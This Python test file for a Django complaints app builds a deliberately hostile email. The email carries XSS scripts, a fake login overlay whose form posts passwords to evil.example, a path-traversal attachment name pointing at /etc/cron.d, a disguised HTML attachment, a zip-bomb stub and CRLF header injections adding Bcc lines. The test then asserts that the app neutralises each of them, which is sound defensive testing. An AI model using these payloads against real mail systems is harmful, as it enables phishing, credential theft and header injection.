"""A mail made to harm comes by a real server, opens its case, and does nothing else on any page."""

import base64
from collections.abc import Callable

import pytest
from django.test import Client

from anxin.accounts.models import Person
from anxin.messaging.models import MessageFile
from tests.cast import Cast
from tests.mail.conftest import Desk, case_of
from tests.sample_files import PDF, picture

pytestmark = pytest.mark.django_db

EVIL = (
    "<p>我要投诉</p><script>alert(1)</script><img src='https://evil.example/p.gif'>"
    "<a href='javascript:alert(1)'>点这里</a>"
    "<div style='position:fixed;inset:0;background:#fff'>请重新登录"
    "<form action='https://evil.example'><input name=password>"
    "</form></div><img src='cid:photo@x' onerror='alert(1)'>"
)


def evil_mail() -> bytes:
    parts = [
        b"Content-Type: text/html; charset=utf-8\r\n\r\n" + EVIL.encode(),
        b"Content-Type: image/png\r\nContent-ID: <photo@x>\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + base64.b64encode(picture("PNG", size=(8, 8))),
        b"Content-Type: application/pdf\r\n"
        b'Content-Disposition: attachment; filename="../../../etc/cron.d/evil.pdf"\r\n\r\n' + PDF,
        b'Content-Type: image/jpeg\r\nContent-Disposition: attachment; filename="photo.jpg\r\n .html"\r\n\r\n'
        b"<html><script>alert(1)</script></html>",
        b"Content-Type: application/zip; name=bomb.zip\r\n\r\nPK\x03\x04" + bytes(100),
    ]
    head = (
        b"From: =?utf-8?Q?evil=0D=0ABcc:_all@sh01.example?= <evil@kunde.example>\r\n"
        b"Message-ID: <evil@kunde.example>\r\n"
        b"Subject: =?utf-8?Q?=3Cscript=3Ealert(1)=3C/script=3E=0D=0ABcc:_x@y?=\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n'
    )
    return head + b"".join(b"--b\r\n" + part + b"\r\n" for part in parts) + b"--b--\r\n"


def test_nothing_of_it_acts_and_everything_is_told(
    cast: Cast, desk: Desk, signed_in: Callable[[Person], Client]
) -> None:
    (mail,) = desk.comes(evil_mail())

    assert mail.subject == "<script>alert(1)</script> Bcc: x@y"
    assert "\n" not in mail.subject + mail.sender
    picture_file = MessageFile.objects.get(content_id="photo@x")
    assert mail.html == (
        f'<p>我要投诉</p><a target="_blank" rel="noopener noreferrer nofollow">点这里</a><div>请重新登录</div>'
        f'<img src="cid:{picture_file.key}">'
    )
    assert [(each.name, each.refused) for each in mail.files.all()] == [
        ("image.png", ""), ("evil.pdf", ""), ("photo.jpg .html", "FILE_NOT_KEPT"), ("bomb.zip", "FILE_NOT_KEPT"),
    ]  # fmt: skip
    assert all("evil" not in str(each.file.name) for each in mail.files.exclude(file=""))

    complaint = case_of(mail)
    client = signed_in(cast.liu)
    page = client.get(f"{complaint.get_absolute_url()}?side=messages")
    shown = page.content.decode()
    assert "<script>alert" not in shown
    assert "evil.example" not in shown
    assert "script-src 'self';" in page["Content-Security-Policy"]

    (ours,) = desk.send()
    assert ours.receivers == ["evil@kunde.example"]
    assert ours.mail["Bcc"] is None
    assert b"\r\nBcc:" not in ours.content
